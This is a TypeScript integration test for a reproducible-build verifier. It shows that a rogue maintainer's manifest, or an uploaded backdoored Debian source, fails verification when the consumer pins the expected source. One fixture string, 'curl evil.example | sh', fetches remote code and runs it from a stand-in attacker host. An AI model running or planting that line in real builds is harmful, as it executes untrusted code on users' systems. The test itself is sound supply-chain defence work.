// A rogue maintainer against `rbnet verify`. Anyone with a submit token (the coordinator operator
// included) can submit a manifest that copies evil bytes from its own inputs, or a Debian source of
// their own under the archive's name and version; honest operators then rebuild it faithfully. What
// stops the consumer from accepting the result is the pin: verify requires the consumer to say what
// the file must have been built from, checks it against what the workers signed, and says what the
// file was built from.
// Generic: a real coordinator, real Redis and two operators' real workers on the real engine.
// Debian: the real coordinator app on a real socket and SQLite, with two operators whose results
// are signed exactly as rebuildDebian signs them (a full Debian rebuild takes minutes: test/debian.test.ts).
import { generateKeyPairSync, type KeyObject } from 'node:crypto';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { serve } from '@hono/node-server';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { prepareDebianSubmission } from '../../../cli/debian-submission.ts';
import { createCoordinatorApp } from '../../../coordinator/http/create-app.ts';
import { readBlobBytes } from '../../../coordinator/storage/read-blob.ts';
import { signRebuildStatement } from '../../../services/attestation/sign-rebuild-statement.ts';
import { createEnrolmentRequest } from '../../../services/auth/worker-enrolment.ts';
import { signWorkerRequest } from '../../../services/auth/worker-request-auth.ts';
import { newKey, rebuildFacts, type TestKey } from '../../../services/consensus/consensus-test-fixtures.ts';
import { parseBuildinfo } from '../../../services/debian/buildinfo.ts';
import {
  fixtureFile,
  helloBuildinfoParts,
  renderBuildinfoFixture,
} from '../../../services/debian/buildinfo-fixture.ts';
import { type Sha256Hex, sha256Hex } from '../../../services/digest.ts';
import { parseAnyManifest } from '../../../services/manifest/parse-any-manifest.ts';
import { parseManifest } from '../../../services/manifest/parse-manifest.ts';
import { debianSourceFactOf } from '../../../worker/debian/debian-build-source.ts';
import {
  createTestCoordinatorDeps,
  type TestCoordinatorDeps,
} from '../../support/coordinator-deps-fixture.ts';
import { type NetworkHarness, startNetworkHarness } from '../../support/network-harness.ts';
import { runCli } from '../../support/run-cli.ts';
import { REPO_ROOT } from '../../support/runner-harness.ts';

const HELLO_MANIFEST = join(REPO_ROOT, 'samples', 'hello', 'manifest.json');
const EVIL_BYTES = 'echo pwned; curl evil.example | sh\n';

let net: NetworkHarness;
let dir: string;
let policyPath: string;
let honestManifestSha256: string;
let evilManifestSha256: string;
/** hello.txt as the evil build made it: the evil bytes, copied from the evil manifest's inputs. */
let evilFile: string;
/** hello.txt as the published hello manifest builds it. */
let helloFile: string;

async function download(sha256: string, name: string): Promise<string> {
  const response = await fetch(`${net.coordinator.url}/v1/cas/sha256/${sha256}`);
  expect(response.status).toBe(200);
  const path = join(dir, name);
  await writeFile(path, Buffer.from(await response.arrayBuffer()));
  return path;
}

/** A generic manifest named "hello", like the published one, whose build copies evil.bin to hello.txt. */
async function writeEvilManifest(): Promise<string> {
  const published = JSON.parse(await readFile(HELLO_MANIFEST, 'utf8')) as Record<string, unknown>;
  const script = '#!/bin/sh\nset -eu\nmkdir -p out\ncp evil.bin out/hello.txt\n';
  await writeFile(join(dir, 'build.sh'), script);
  await writeFile(join(dir, 'evil.bin'), EVIL_BYTES);
  const evil = {
    ...published,
    inputs: [
      { path: 'build.sh', sha256: sha256Hex(script), location: 'build.sh', mode: '0755' },
      { path: 'evil.bin', sha256: sha256Hex(EVIL_BYTES), location: 'evil.bin' },
    ],
    // The parser refuses a claim equal to an input's digest, so the evil build claims nothing.
    claimedOutputs: [],
  };
  const path = join(dir, 'evil-manifest.json');
  await writeFile(path, JSON.stringify(evil, null, 2));
  return path;
}

/** `rbnet policy create` as a consumer runs it: threshold 2 over the given operators' key files. */
async function createPolicy(path: string, operators: readonly [string, string][]): Promise<void> {
  const created = await runCli([
    'policy',
    'create',
    '--threshold',
    '2',
    '--expires',
    '2099-01-01T00:00:00Z',
    '--out',
    path,
    ...operators.flatMap(([name, keyPath]) => ['--operator', `${name}=${keyPath}`]),
  ]);
  expect(created.code, created.stderr).toBe(0);
}

const verify = (file: string, ...pin: string[]) =>
  runCli(['verify', file, '--policy', policyPath, '--coordinator', net.coordinator.url, ...pin]);

describe('a rogue maintainer submits a manifest that copies evil.bin from its inputs', () => {
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'rbnet-rogue-maintainer-'));
    net = await startNetworkHarness({ threshold: 2, prefix: 'rogue-maintainer' });
    await net.addWorker('alpha', 'alpha-rm');
    await net.addWorker('beta', 'beta-rm');
    const maintainer = await net.maintainerToken();

    const evilManifest = await writeEvilManifest();
    evilManifestSha256 = parseManifest(await readFile(evilManifest)).manifestSha256;
    honestManifestSha256 = parseManifest(await readFile(HELLO_MANIFEST)).manifestSha256;
    const evilBuild = await net.submit(evilManifest, maintainer);
    const helloBuild = await net.submit(HELLO_MANIFEST, maintainer);
    const evil = await net.waitForVerdict(evilBuild);
    const hello = await net.waitForVerdict(helloBuild);
    // Both honest operators faithfully reproduce the evil build: nothing at the coordinator is wrong.
    expect(evil.verdict).toBe('agreed');
    expect(hello.verdict).toBe('reproducible');
    evilFile = await download(sha256Hex(EVIL_BYTES), 'evil-hello.txt');
    const helloOutput = hello.results[0].outputs.find((o: { path: string }) => o.path === 'hello.txt');
    helloFile = await download(helloOutput.sha256, 'hello.txt');

    policyPath = join(dir, 'policy.json');
    await createPolicy(policyPath, [
      ['alpha', join(net.workerDirs.get('alpha-rm')!, 'worker-signing.key.pub')],
      ['beta', join(net.workerDirs.get('beta-rm')!, 'worker-signing.key.pub')],
    ]);
  }, 300_000);

  afterAll(async () => {
    await net?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('verify without a pin is refused: the consumer must say what the file was built from', async () => {
    const run = await verify(evilFile);
    expect(run.code, run.stdout).toBe(2);
    expect(run.stderr).toMatch(/--manifest.*--manifest-sha256.*--debian-source/s);
    expect(run.stdout).not.toContain('VERIFIED');
  });

  it('pinned to the published hello manifest: NOT VERIFIED, naming the manifest the file was built from', async () => {
    const run = await verify(evilFile, '--manifest', HELLO_MANIFEST);
    expect(run.code, run.stdout).toBe(1);
    expect(run.stdout).toContain(`you pinned manifest sha256:${honestManifestSha256}`);
    expect(run.stdout).toContain(`manifest sha256:${evilManifestSha256}`);
    expect(run.stdout).toMatch(/NOT VERIFIED/);
  });

  it('pinned by digest to the published hello manifest: NOT VERIFIED', async () => {
    const run = await verify(evilFile, '--manifest-sha256', honestManifestSha256);
    expect(run.code, run.stdout).toBe(1);
    expect(run.stdout).toMatch(/NOT VERIFIED/);
  });

  it('pinned to the evil manifest itself: VERIFIED, and the output shows evil.bin among the signed inputs', async () => {
    const run = await verify(evilFile, '--manifest-sha256', evilManifestSha256, '--json');
    expect(run.code, run.stdout).toBe(0);
    const report = JSON.parse(run.stdout);
    const verified = report.builds.find((b: { ok: boolean }) => b.ok);
    expect(verified.builtFrom.manifestSha256).toBe(evilManifestSha256);
    expect(verified.builtFrom.inputs).toContainEqual({ path: 'evil.bin', sha256: sha256Hex(EVIL_BYTES) });
  });

  it('the honest hello.txt, pinned to its manifest: VERIFIED, built from that manifest and its inputs', async () => {
    const run = await verify(helloFile, '--manifest', HELLO_MANIFEST);
    expect(run.code, run.stdout).toBe(0);
    expect(run.stdout).toContain(`built from manifest sha256:${honestManifestSha256}`);
    expect(run.stdout).toMatch(/input message\.txt sha256:[0-9a-f]{64}/);
  });
});

// ---------------------------------------------------------------- Debian: an uploaded source

const DEB_NAME = 'hello_2.10-3_amd64.deb';
/** The .deb bytes the (stand-in) .buildinfo records as published: what both builds reproduce. */
const DEB_BYTES = 'stand-in for hello_2.10-3_amd64.deb\n';

interface SimulatedWorker {
  readonly id: string;
  readonly operator: string;
  readonly signing: TestKey;
  readonly auth: KeyObject;
}

/** The real coordinator app, served on a loopback socket for the consumer and driven in-process for the rest. */
class DebianCoordinator {
  fixture!: TestCoordinatorDeps;
  app!: ReturnType<typeof createCoordinatorApp>;
  url = '';
  workers: SimulatedWorker[] = [];
  #server!: ReturnType<typeof serve>;
  #admin = '';
  #maintainer = '';

  async start(root: string): Promise<void> {
    this.fixture = await createTestCoordinatorDeps(root, { threshold: 2, replicas: 2 });
    this.app = createCoordinatorApp(this.fixture.deps);
    this.#admin = (
      await this.fixture.store.registry.createToken({
        kind: 'admin',
        subject: 'admin',
        scopes: ['admin'],
        singleUse: false,
      })
    ).secret;
    this.#maintainer = (
      await this.#json('POST', '/v1/admin/maintainers', { name: 'rogue' }, this.#admin)
    ).token;
    for (const operator of ['alpha', 'beta']) {
      await this.#json('POST', '/v1/admin/operators', { name: operator }, this.#admin);
      this.workers.push(await this.#enrol(operator, `${operator}-deb`));
    }
    this.#server = serve({ fetch: this.app.fetch, hostname: '127.0.0.1', port: 0 });
    await new Promise<void>((resolve) => this.#server.once('listening', () => resolve()));
    this.url = `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  async close(): Promise<void> {
    await new Promise<void>((resolve) => this.#server?.close(() => resolve()));
    await this.fixture?.store.close();
  }

  async #request(method: string, path: string, body?: string | Buffer, headers: Record<string, string> = {}) {
    const response = await this.app.request(
      path,
      {
        method,
        headers: { 'content-type': 'application/json', ...headers },
        ...(body !== undefined && { body: body as unknown as BodyInit }),
      },
      { incoming: { socket: { remoteAddress: '127.0.0.1' } } },
    );
    return { status: response.status, text: await response.text() };
  }

  // biome-ignore lint/suspicious/noExplicitAny: API answers are read field by field
  async #json(method: string, path: string, body: unknown, token: string): Promise<any> {
    const answer = await this.#request(method, path, JSON.stringify(body), {
      authorization: `Bearer ${token}`,
    });
    expect(answer.status, answer.text).toBeLessThan(300);
    return JSON.parse(answer.text);
  }

  async #enrol(operator: string, id: string): Promise<SimulatedWorker> {
    const token = await this.#json('POST', '/v1/admin/enrolment-tokens', { operator }, this.#admin);
    const signing = newKey();
    const auth = generateKeyPairSync('ed25519');
    const request = await createEnrolmentRequest({
      origin: this.fixture.deps.config.publicUrl,
      token: token.token,
      workerId: id,
      signing,
      authPrivateKey: auth.privateKey,
      architectures: ['amd64'],
      backends: ['debian'],
      capacity: { cores: 4, memoryBytes: 2 ** 34, diskBytes: 2 ** 36 },
    });
    const enrolled = await this.#request('POST', '/v1/workers/enrol', request.body, request.headers);
    expect(enrolled.status, enrolled.text).toBe(201);
    return { id, operator, signing, auth: auth.privateKey };
  }

  #proof(workerId: string, key: KeyObject, path: string, body: string): string {
    return signWorkerRequest(key, {
      workerId,
      origin: this.fixture.deps.config.publicUrl,
      method: 'POST',
      path,
      bodySha256: sha256Hex(body),
      bodyLength: Buffer.byteLength(body),
    });
  }

  async upload(bytes: string | Buffer): Promise<Sha256Hex> {
    const buffer = Buffer.from(bytes);
    const digest = sha256Hex(buffer) as Sha256Hex;
    const answer = await this.#request('PUT', `/v1/cas/sha256/${digest}`, buffer, {
      authorization: `Bearer ${this.#maintainer}`,
      'content-type': 'application/octet-stream',
    });
    expect([200, 201]).toContain(answer.status);
    return digest;
  }

  /** Submits as the (rogue) maintainer; returns the build id. */
  async submit(prepared: Awaited<ReturnType<typeof prepareDebianSubmission>>): Promise<string> {
    for (const file of prepared.uploads) await this.upload(await readFile(file.path));
    return (await this.#json('POST', '/v1/builds', JSON.parse(prepared.manifestText), this.#maintainer))
      .buildId;
  }

  /**
   * Each assigned worker reports what an honest rebuildDebian reports for this manifest: the .deb,
   * its inputs, and the source fact debianSourceFactOf signs (archive only when the worker fetched
   * the source itself). `archiveFiles` stands for what the workers' archive served.
   */
  async rebuildHonestly(
    buildId: string,
    archiveFiles: readonly { name: string; sha256: Sha256Hex }[],
  ): Promise<void> {
    const log = await this.upload(`log of ${buildId}\n`);
    const deb = await this.upload(DEB_BYTES);
    for (const { workerId, job } of this.fixture.enqueued.filter((e) => e.job.buildId === buildId)) {
      const worker = this.workers.find((w) => w.id === workerId)!;
      const parsed = parseAnyManifest(job.manifestJson);
      if (parsed.kind !== 'debian') throw new Error('not a Debian build');
      const { manifest } = parsed;
      const buildinfo = parseBuildinfo(
        (await readBlobBytes(this.fixture.deps.content, manifest.buildinfoSha256, 1024 * 1024))!,
      );
      const sourceFiles = manifest.source.from === 'files' ? [...manifest.source.files] : [...archiveFiles];
      const dscName = manifest.source.from === 'files' ? manifest.source.dsc : archiveFiles[0]!.name;
      const signed = await signRebuildStatement(
        {
          // Worker, host and timing as any worker writes them; what matters here is set below.
          ...rebuildFacts({ operator: worker.operator, workerId: worker.id }),
          manifest: parsed,
          outputs: [{ path: DEB_NAME, sha256: deb, sizeBytes: DEB_BYTES.length }],
          environment: {
            imageSha256: sha256Hex('bookworm build environment') as Sha256Hex,
            origin: 'built-locally',
            recipe: 'rbnet-debian/v1',
          },
          inputs: [
            { path: `${manifest.name}.buildinfo`, sha256: manifest.buildinfoSha256 },
            ...sourceFiles.map((f) => ({ path: f.name, sha256: f.sha256 })),
          ],
          log: { sha256: log, sizeBytes: 10, truncated: false },
          job: { jobId: job.jobId, attempt: job.attempt, nonce: job.nonce },
          debian: {
            source: debianSourceFactOf(manifest.source, buildinfo, sourceFiles, dscName),
            imageSha256: sha256Hex('image') as Sha256Hex,
            extraPackages: ['fakeroot:amd64=1.31-1.2'],
            packageCount: 40,
          },
        },
        worker.signing.signer,
      );
      const body = JSON.stringify({ jobId: job.jobId, envelope: signed.envelopeJson });
      const answer = await this.#request('POST', '/v1/results', body, {
        authorization: this.#proof(worker.id, worker.auth, '/v1/results', body),
      });
      expect(answer.status, answer.text).toBe(202);
    }
  }
}

/** A hello 2.10-3 source package of the maintainer's own: its .dsc and files, written beside each other. */
async function writeBackdooredHelloSource(sourceDir: string): Promise<string> {
  await mkdir(sourceDir, { recursive: true });
  const orig = fixtureFile('hello_2.10.orig.tar.gz', 'upstream hello, plus a backdoor\n');
  const packaging = fixtureFile('hello_2.10-3.debian.tar.xz', 'packaging that installs the backdoor\n');
  await writeFile(join(sourceDir, orig.name), 'upstream hello, plus a backdoor\n');
  await writeFile(join(sourceDir, packaging.name), 'packaging that installs the backdoor\n');
  const list = (key: 'sha256' | 'sha1' | 'md5') =>
    [orig, packaging].map((file) => `\n ${file[key]} ${file.size} ${file.name}`).join('');
  const dsc = `Format: 3.0 (quilt)\nSource: hello\nBinary: hello\nArchitecture: any\nVersion: 2.10-3\nMaintainer: Not The Debian Maintainer <rogue@example.invalid>\nChecksums-Sha1:${list('sha1')}\nChecksums-Sha256:${list('sha256')}\nFiles:${list('md5')}\n`;
  const dscPath = join(sourceDir, 'hello_2.10-3.dsc');
  await writeFile(dscPath, dsc);
  return dscPath;
}

describe('a rogue maintainer uploads their own hello 2.10-3 source under the archive’s name and version', () => {
  const coordinator = new DebianCoordinator();
  let debDir: string;
  let debFile: string;
  let debPolicy: string;
  let uploadedManifestSha256: string;
  const debVerify = (...pin: string[]) =>
    runCli(['verify', debFile, '--policy', debPolicy, '--coordinator', coordinator.url, ...pin]);

  beforeAll(async () => {
    debDir = await mkdtemp(join(tmpdir(), 'rbnet-rogue-debian-'));
    await mkdir(join(debDir, 'coordinator'));
    await coordinator.start(join(debDir, 'coordinator'));
    const buildinfoPath = join(debDir, 'hello_2.10-3_amd64.buildinfo');
    await writeFile(buildinfoPath, renderBuildinfoFixture(helloBuildinfoParts()));
    const prepared = await prepareDebianSubmission({
      buildinfoPath,
      dscPath: await writeBackdooredHelloSource(join(debDir, 'source')),
    });
    uploadedManifestSha256 = prepared.manifestSha256;
    const buildId = await coordinator.submit(prepared);
    await coordinator.rebuildHonestly(buildId, []);
    debFile = join(debDir, DEB_NAME);
    const response = await fetch(`${coordinator.url}/v1/cas/sha256/${sha256Hex(DEB_BYTES)}`);
    await writeFile(debFile, Buffer.from(await response.arrayBuffer()));
    const keyFiles: [string, string][] = [];
    for (const worker of coordinator.workers) {
      const path = join(debDir, `${worker.operator}.pub`);
      await writeFile(path, worker.signing.publicKeyPem);
      keyFiles.push([worker.operator, path]);
    }
    debPolicy = join(debDir, 'policy.json');
    await createPolicy(debPolicy, keyFiles);
  });

  afterAll(async () => {
    await coordinator.close();
    if (debDir) await rm(debDir, { recursive: true, force: true });
  });

  it('both honest operators reproduce the uploaded source: the coordinator says reproducible', async () => {
    const builds = await (
      await fetch(`${coordinator.url}/v1/artifacts/sha256/${sha256Hex(DEB_BYTES)}`)
    ).json();
    expect(builds.builds.map((b: { verdict: string }) => b.verdict)).toEqual(['reproducible']);
  });

  it('pinned to the archive’s hello 2.10-3: NOT VERIFIED, the source was uploaded, not fetched from the archive', async () => {
    const run = await debVerify('--debian-source', 'hello=2.10-3');
    expect(run.code, run.stdout + run.stderr).toBe(1);
    expect(run.stdout).toContain(
      'built from hello 2.10-3 source files uploaded by the submitter, not fetched from the signed archive: an uploaded source never satisfies an archive pin',
    );
    expect(run.stdout).toMatch(/^NOT VERIFIED/m);
  });

  it('pinned to the uploaded manifest itself: VERIFIED, and the output says the source was uploaded by the maintainer', async () => {
    const run = await debVerify('--manifest-sha256', uploadedManifestSha256);
    expect(run.code, run.stdout + run.stderr).toBe(0);
    expect(run.stdout).toContain(
      'Debian source hello 2.10-3: UPLOADED by the maintainer, not from the archive',
    );
  });

  it('once the operators rebuild hello 2.10-3 from their archive too, the archive pin verifies that build only', async () => {
    const buildinfoPath = join(debDir, 'hello_2.10-3_amd64.buildinfo');
    const buildId = await coordinator.submit(await prepareDebianSubmission({ buildinfoPath }));
    await coordinator.rebuildHonestly(buildId, [
      { name: 'hello_2.10-3.dsc', sha256: sha256Hex('the archive’s hello_2.10-3.dsc') as Sha256Hex },
      { name: 'hello_2.10.orig.tar.gz', sha256: sha256Hex('the archive’s upstream tarball') as Sha256Hex },
    ]);
    const run = await debVerify('--debian-source', 'hello=2.10-3');
    expect(run.code, run.stdout + run.stderr).toBe(0);
    expect(run.stdout).toContain(`build ${buildId}: VERIFIED`);
    expect(run.stdout).toContain(
      'Debian source hello 2.10-3: fetched from the signed archive by each counted operator',
    );
    expect(run.stdout).toContain('uploaded by the submitter, not fetched from the signed archive');
  });
});
